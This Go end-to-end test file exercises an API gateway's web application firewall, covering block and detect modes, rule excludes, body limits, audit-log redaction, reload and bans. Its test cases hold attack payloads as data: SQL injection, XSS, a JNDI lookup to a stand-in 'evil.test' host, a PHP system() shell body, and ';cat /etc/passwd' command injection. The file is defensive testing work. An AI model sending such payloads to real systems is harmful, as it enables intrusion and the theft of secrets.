package e2e

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/net/websocket"
)

// digest is a backend that says what of a request came: length, hash, the
// length that was announced, and a trailer.
func digest(w http.ResponseWriter, r *http.Request) {
	h := sha256.New()
	n, err := io.Copy(h, r.Body)
	fmt.Fprintf(w, "%d %x %d %q %v", n, h.Sum(nil), r.ContentLength, r.Trailer.Get("X-Sum"), err)
}

func digestOf(body []byte, length int64, trailer string) string {
	h := sha256.Sum256(body)
	return fmt.Sprintf("%d %s %d %q <nil>", len(body), hex.EncodeToString(h[:]), length, trailer)
}

const wafRoutes = `
policy "guarded" {
  waf {}
}
route "guarded1" {
  hosts   = ["guarded1.test"]
  service = "one"
  use     = ["guarded"]
}
route "guarded2" {
  hosts   = ["guarded2.test"]
  service = "two"
  waf { uninspected = ["image/*"] }
}
route "lenient" {
  hosts   = ["lenient.test"]
  service = "two"
  waf {
    body   = "4KiB"
    beyond = "pass"
    exclude { rules = ["attack-xss"] }
    exclude {
      rules   = ["942000-942999"]
      targets = ["ARGS:q"]
    }
  }
}
route "watched" {
  hosts   = ["watched.test"]
  service = "one"
  waf {
    mode = "detect"
    body = "4KiB"
  }
}
route "free" {
  hosts   = ["free.test"]
  service = "one"
  use     = ["guarded"]
  waf { mode = "off" }
}
`

// auditLine is a part of a line of the audit log.
type auditLine struct {
	Route, Action, Path, Msg string
	Score                    int
	Rules                    []struct {
		ID      int
		Message string
		Where   []string
	}
	RequestID string `json:"request_id"`
}

func auditLines(t *testing.T, path string) (list []auditLine, text string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, ""
	}
	for line := range bytes.Lines(b) {
		var l auditLine
		if err := json.Unmarshal(line, &l); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		list = append(list, l)
	}
	return list, string(b)
}

// TestWAF: over each protocol attacks are refused wherever they stand, what is
// none arrives as it was sent, and the logs say why without the values.
func TestWAF(t *testing.T) {
	g := newGateway(t, "")
	audit := filepath.Join(g.dir, "audit.log")
	g.configure(t, accessLog+fmt.Sprintf("audit_log { output = %q }\n", audit)+twin(t, http.HandlerFunc(digest))+wafRoutes)
	g.start(t)
	const secret = "c0rrect-h0rse"
	attack := url.QueryEscape(`1' OR '1'='1' -- ` + secret)
	for _, c := range g.clients(t) {
		t.Run(c.name, func(t *testing.T) {
			base := func(host string) string { return c.scheme + "://" + host + ".test" }
			for _, host := range []string{"guarded1", "guarded2"} {
				for _, tt := range []struct{ method, path, typ, body, field string }{
					{"GET", "/?q=" + attack, "", "", ""},
					{"GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "", ""},
					{"GET", "/.git/config", "", "", ""},
					{"GET", "/", "", "", "X-Api-Version: ${jndi:ldap://evil.test/a}"},
					{"GET", "/", "", "", "Cookie: a=<script>alert(1)</script>"},
					{"POST", "/", "application/x-www-form-urlencoded", "a=1&q=" + attack, ""},
					{"POST", "/", "application/json", `{"q":"1' OR '1'='1' -- "}`, ""},
					{"POST", "/", "application/json", `{"q":`, ""},
					{"POST", "/", "application/xml", `<a b="&lt;script>alert(1)&lt;/script>"/>`, ""},
					{"POST", "/", "multipart/form-data; boundary=X", "--X\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<?php system('id') ?>\r\n--X--\r\n", ""},
					{"POST", "/", "text/plain", `{"q":"1' OR '1'='1' -- "}`, ""},
				} {
					var fields []string
					if tt.typ != "" {
						fields = append(fields, "Content-Type: "+tt.typ)
					}
					if tt.field != "" {
						fields = append(fields, tt.field)
					}
					resp, body := exchangeOf(t, c, tt.method, base(host)+tt.path, tt.body, fields...)
					wantProblem(t, resp, body, 403, "forbidden")
					if strings.Contains(body, "waf") || strings.Contains(body, "rule") || strings.Contains(body, "score") || strings.Contains(body, "ttack") {
						t.Errorf("the refusal says why: %s", body)
					}
				}
				big := strings.Repeat("a", 129<<10)
				for _, tt := range []struct {
					status int
					kind   string
					body   string
					fields []string
				}{
					{415, "unsupported-media-type", "x", []string{"Content-Type: application/octet-stream"}},
					{415, "unsupported-media-type", "{}", []string{"Content-Type: application/json", "Content-Encoding: gzip"}},
					{413, "body-too-large", big, []string{"Content-Type: text/plain"}},
				} {
					resp, body := exchangeOf(t, c, "POST", base(host)+"/", tt.body, tt.fields...)
					wantProblem(t, resp, body, tt.status, tt.kind)
				}
				r := request(t, context.Background(), "POST", base(host)+"/", io.MultiReader(strings.NewReader(big))) // of no known length
				r.ContentLength = -1
				resp, body := sendWith(t, c, r, "Content-Type: text/plain")
				wantProblem(t, resp, body, 413, "body-too-large")
				testWAFBodies(t, c, base(host))
			}
			image := bytes.Repeat([]byte{0x89, 'P', 0}, 200<<10) // unseen, of any size
			resp, body := exchangeOf(t, c, "POST", base("guarded2")+"/", string(image), "Content-Type: image/png")
			if want := digestOf(image, int64(len(image)), ""); resp.StatusCode != 200 || body != want {
				t.Errorf("an image: %s %s, want %s", resp.Status, body, want)
			}
			for path, want := range map[string]int{
				"/?q=" + attack:                         200,
				"/?p=" + attack:                         403,
				"/?p=%3Cscript%3Ealert(1)%3C/script%3E": 200,
			} {
				if resp, _ := send(t, c, base("lenient")+path); resp.StatusCode != want {
					t.Errorf("%s with excludes: %s, want %d", path, resp.Status, want)
				}
			}
			for _, tt := range []struct {
				host, body string
				want       int
			}{ // behind 4 KiB nothing is seen, which is what beyond = "pass" says
				{"lenient", "x=" + strings.Repeat("a", 3000) + "&c=;cat+/etc/passwd", 403},
				{"lenient", "x=" + strings.Repeat("a", 5000) + "&c=;cat+/etc/passwd", 200},
				{"lenient", "c=;cat+/etc/passwd&x=" + strings.Repeat("a", 5000), 403},
				{"watched", "c=;cat+/etc/passwd&x=" + strings.Repeat("a", 500_000), 200},
				{"free", "c=;cat+/etc/passwd", 200},
			} {
				resp, body := exchangeOf(t, c, "POST", base(tt.host)+"/", tt.body, "Content-Type: application/x-www-form-urlencoded")
				if want := digestOf([]byte(tt.body), int64(len(tt.body)), ""); resp.StatusCode != tt.want || tt.want == 200 && body != want {
					t.Errorf("%s: %d bytes: %s %s, want %d %s", tt.host, len(tt.body), resp.Status, body, tt.want, want)
				}
			}
			for _, host := range []string{"watched", "free"} {
				if resp, _ := send(t, c, base(host)+"/seen?q="+attack, "Authorization: Bearer "+secret, "Cookie: s="+secret); resp.StatusCode != 200 {
					t.Errorf("%s: %s", host, resp.Status)
				}
			}
		})
	}
	testWAFLogs(t, g, audit, secret)
}

// testWAFBodies: innocent bodies arrive byte by byte, whatever they are framed in.
func testWAFBodies(t *testing.T, c protocolClient, base string) {
	t.Helper()
	for _, size := range []int{0, 1, 100, 8191, 8192, 8193, 20_000} {
		body, err := json.Marshal(map[string]string{"text": strings.Repeat("blue shoes ", size/11)})
		if err != nil {
			t.Fatal(err)
		}
		resp, got := exchangeOf(t, c, "PUT", base+"/", string(body), "Content-Type: application/json", "Expect: 100-continue")
		if want := digestOf(body, int64(len(body)), ""); resp.StatusCode != 200 || got != want {
			t.Errorf("%d bytes: %s %s, want %s", len(body), resp.Status, got, want)
		}
		r := request(t, context.Background(), "POST", base+"/", io.MultiReader(bytes.NewReader(body)))
		r.ContentLength = -1
		r.Trailer = http.Header{"X-Sum": {"7"}}
		resp, got = sendWith(t, c, r, "Content-Type: application/json")
		if want := digestOf(body, -1, "7"); resp.StatusCode != 200 || got != want {
			t.Errorf("%d bytes, streamed: %s %s, want %s", len(body), resp.Status, got, want)
		}
	}
	file := []byte("--X\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n" + strings.Repeat("\xff\xd8\x00\x01", 31<<10) + "\r\n--X--\r\n")
	resp, got := exchangeOf(t, c, "POST", base+"/", string(file), "Content-Type: multipart/form-data; boundary=X")
	if want := digestOf(file, int64(len(file)), ""); resp.StatusCode != 200 || got != want {
		t.Errorf("a file: %s %s, want %s", resp.Status, got, want)
	}
	r := request(t, context.Background(), "POST", base+"/", io.MultiReader(strings.NewReader("{}")))
	r.ContentLength = -1
	r.Trailer = http.Header{"X-Sum": {"${jndi:ldap://evil.test/a}"}}
	resp, body := sendWith(t, c, r, "Content-Type: application/json")
	wantProblem(t, resp, body, 403, "forbidden")
}

func testWAFLogs(t *testing.T, g *gateway, audit, secret string) {
	t.Helper()
	g.logged(t, "why", func(l logLine) bool {
		return l.Status == 403 && strings.Contains(l.Error, "forbidden: waf: score ") && strings.Contains(l.Error, "942100 SQL Injection Attack Detected via libinjection (ARGS:q)")
	})
	g.logged(t, "what is only detected", func(l logLine) bool {
		return l.Status == 200 && l.Path == "/seen" && strings.Contains(l.WAF, "942100") && l.Host == "watched.test"
	})
	eventually(t, "audit log", func() error {
		list, text := auditLines(t, audit)
		if strings.Contains(text, secret) || strings.Contains(text, "jndi") || strings.Contains(text, "OR '1'") {
			t.Fatalf("it has values: %s", text)
		}
		seen := map[string]bool{}
		for _, l := range list {
			if l.Route == "watched" && l.Path == "/seen" && l.Action == "detected" && l.Score >= 5 && len(l.Rules) > 0 && l.Rules[0].Where[0] == "ARGS:q" {
				seen["detected"] = true
			}
			if l.Route == "guarded1" && l.Action == "blocked" && l.RequestID != "" {
				seen["blocked"] = true
			}
			if l.Route == "free" {
				t.Fatalf("a line of a route without waf: %+v", l)
			}
		}
		if len(seen) < 2 {
			return fmt.Errorf("%d lines: %v", len(list), seen)
		}
		return nil
	})
	if err := os.Rename(audit, audit+".1"); err != nil {
		t.Fatal(err)
	}
	g.signal(syscall.SIGUSR1)
	eventually(t, "a line in the new file", func() error {
		if resp, _ := send(t, g.clients(t)[0], "https://guarded1.test/.env"); resp.StatusCode != 403 {
			t.Fatal(resp.Status)
		}
		if list, _ := auditLines(t, audit); len(list) == 0 {
			return errors.New("none")
		}
		return nil
	})
	text, err := g.get("/metrics")
	for _, want := range []string{`sidegate_waf_attacks_total{mode="block",route="guarded1"} `, `sidegate_waf_attacks_total{mode="detect",route="watched"} 1`,
		`sidegate_waf_requests_total{mode="block",route="lenient"} `, `sidegate_waf_unseen_total{mode="block",route="lenient"} 10`, "sidegate_audit_log_dropped_total 0", "sidegate_waf_overloads_total 0"} {
		if err != nil || !strings.Contains(text, want) {
			t.Errorf("no %s in the metrics (%v)", want, err)
		}
	}
	if strings.Contains(text, `sidegate_waf_requests_total{mode="off"`) {
		t.Error("mode off is counted")
	}
	out, code := run(t, "explain", "-config", filepath.Join(g.dir, "etc"), "https://guarded1.test/?q=%3Cscript%3Ealert(1)%3C/script%3E")
	if code != 0 || !strings.Contains(out, "waf: block attacks at paranoia 1") || !strings.Contains(out, "=> refuses: score ") {
		t.Errorf("explain: %s", out)
	}
}

// TestWAFReload: a reload takes rules of one's own over at once, keeps the old
// ones when the new ones have an error, and drops no request meanwhile.
func TestWAFReload(t *testing.T) {
	g := newGateway(t, "")
	rules := write(t, filepath.Join(g.dir, "etc", "own.conf"), "SecRule ARGS:x \"@streq one\" \\\n  \"id:10,phase:1,deny,msg:'one'\"\n")
	config := twin(t, http.HandlerFunc(digest)) + `
route "own" {
  hosts   = ["own.test"]
  service = "one"
  waf { rules_file = "own.conf" }
}
`
	g.configure(t, config)
	g.start(t)
	c := g.clients(t)[1]
	become := func(what, x string, status int) {
		t.Helper()
		eventually(t, what, func() error {
			if resp, _ := send(t, c, "https://own.test/?x="+x); resp.StatusCode != status {
				return errors.New(resp.Status)
			}
			return nil
		})
	}
	become("the first rule", "one", 403)
	become("others", "two", 200)
	done := make(chan struct{})
	failed := make(chan string, 1)
	go func() {
		defer close(failed)
		for {
			select {
			case <-done:
				return
			default:
			}
			resp, err := c.Get("https://own.test/?x=" + fmt.Sprint(rand.IntN(1000)))
			if err != nil || resp.StatusCode != 200 {
				failed <- fmt.Sprint(resp, err)
				return
			}
			_ = resp.Body.Close()
		}
	}()
	write(t, rules, "SecRule ARGS:x \"@streq two\" \"id:10,phase:1,deny,msg:'two'\"\n")
	become("the second rule", "two", 403)
	become("the first is gone", "one", 200)
	write(t, rules, "# none\nSecRule ARGS:x \"@nonsense two\" \"id:10,phase:1,deny\"\n")
	eventually(t, "a wrong rule is reported", func() error {
		if by := g.status(t).Config.RejectedBy; !strings.Contains(by, "own.conf:2: ") || !strings.Contains(by, "nonsense") {
			return fmt.Errorf("%q", by)
		}
		return nil
	})
	become("the second rule stays", "two", 403)
	if out, code := run(t, "validate", "-config", filepath.Join(g.dir, "etc")); code == 0 || !strings.Contains(out, "own.conf:2: ") {
		t.Errorf("validate: %d %s", code, out)
	}
	write(t, rules, "")
	become("no rule of one's own", "two", 200)
	become("the others stay", "<script>alert(1)</script>", 403)
	g.configure(t, config+"route \"more\" {\n  hosts = [\"more.test\"]\n  service = \"one\"\n  waf {\n    exclude { rules = [\"999999\"] }\n  }\n}\n")
	eventually(t, "an exclude of nothing is reported", func() error {
		if by := g.status(t).Config.RejectedBy; !strings.Contains(by, `exclude: rules: there is no rule with "999999"`) {
			return fmt.Errorf("%q", by)
		}
		return nil
	})
	close(done)
	if why, bad := <-failed; bad {
		t.Errorf("a request failed: %s", why)
	}
}

// TestWAFBan: what the waf refuses bans at once, what it detects doesn't.
func TestWAFBan(t *testing.T) {
	g := newGateway(t, "trusted_proxies = [\"127.0.0.0/8\"]\n"+twin(t, http.HandlerFunc(digest))+`
policy "ban" {
  ban {}
}
route "blocks" {
  hosts   = ["blocks.test"]
  service = "one"
  use     = ["ban"]
  waf {}
}
route "watches" {
  hosts   = ["watches.test"]
  service = "one"
  use     = ["ban"]
  waf { mode = "detect" }
}
`).start(t)
	for i, c := range g.clients(t) {
		t.Run(c.name, func(t *testing.T) {
			status := func(host, client string) int {
				resp, _ := send(t, c, c.scheme+"://"+host, "X-Forwarded-For: "+client)
				return resp.StatusCode
			}
			client := fmt.Sprintf("192.0.2.%d", i)
			if got := status("watches.test/?q=<script>alert(1)</script>", client); got != 200 {
				t.Fatalf("detected: %d", got)
			}
			if got := status("blocks.test/", client); got != 200 {
				t.Fatalf("before: %d", got)
			}
			if got := status("blocks.test/?q=<script>alert(1)</script>", client); got != 403 {
				t.Fatalf("blocked: %d", got)
			}
			eventually(t, "the ban", func() error {
				if got := status("watches.test/", client); got != 403 {
					return fmt.Errorf("status %d", got)
				}
				return nil
			})
			if got := status("blocks.test/", "198.51.100.1"); got != 200 {
				t.Errorf("others: %d", got)
			}
		})
	}
}

// TestWAFStreams: a WebSocket's handshake is inspected and what follows passes;
// gRPC streams pass where the block says that their bodies do.
func TestWAFStreams(t *testing.T) {
	real(t)
	p := ports(t, 5)[3] // beyond the gateway's three
	start(t, tool(t, "grpc-interop-server"), fmt.Sprintf("-port=%d", p))
	eventually(t, "gRPC server", func() error { return dial(p) })
	echo := websocket.Handler(func(c *websocket.Conn) { _, _ = io.Copy(c, c) })
	g := newGateway(t, twin(t, echo)+fmt.Sprintf(`
route "ws" {
  hosts   = ["ws.test"]
  service = "one"
  waf {}
}
service "grpc" {
  instances = ["127.0.0.1:%d"]
  protocol  = "h2c"
}
route "grpc" {
  hosts   = ["127.0.0.1"]
  service = "grpc"
  waf { uninspected = ["application/grpc"] }
}`, p)).start(t)
	ws, err := g.tryWebSocket(t, "ws.test/echo?room=7")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"hello", "<script>alert(1)</script>", strings.Repeat("a", 200<<10)} {
		if err := websocket.Message.Send(ws, want); err != nil {
			t.Fatal(err)
		}
		var got string
		for len(got) < len(want) {
			var part string
			if err := websocket.Message.Receive(ws, &part); err != nil {
				t.Fatal(err)
			}
			got += part
		}
		if got != want {
			t.Fatalf("%d bytes of %d came back", len(got), len(want))
		}
	}
	if _, err := g.tryWebSocket(t, "ws.test/echo?room=%3Cscript%3Ealert(1)%3C/script%3E"); err == nil {
		t.Error("an attack in the handshake passes")
	}
	for _, test := range []string{"empty_unary", "large_unary", "client_streaming", "server_streaming", "ping_pong", "cancel_after_begin"} {
		if out, err := interop(t, fmt.Sprintf("-server_port=%d", g.http), "-test_case="+test); err != nil {
			t.Errorf("%s: %v: %s", test, err, out)
		}
	}
}
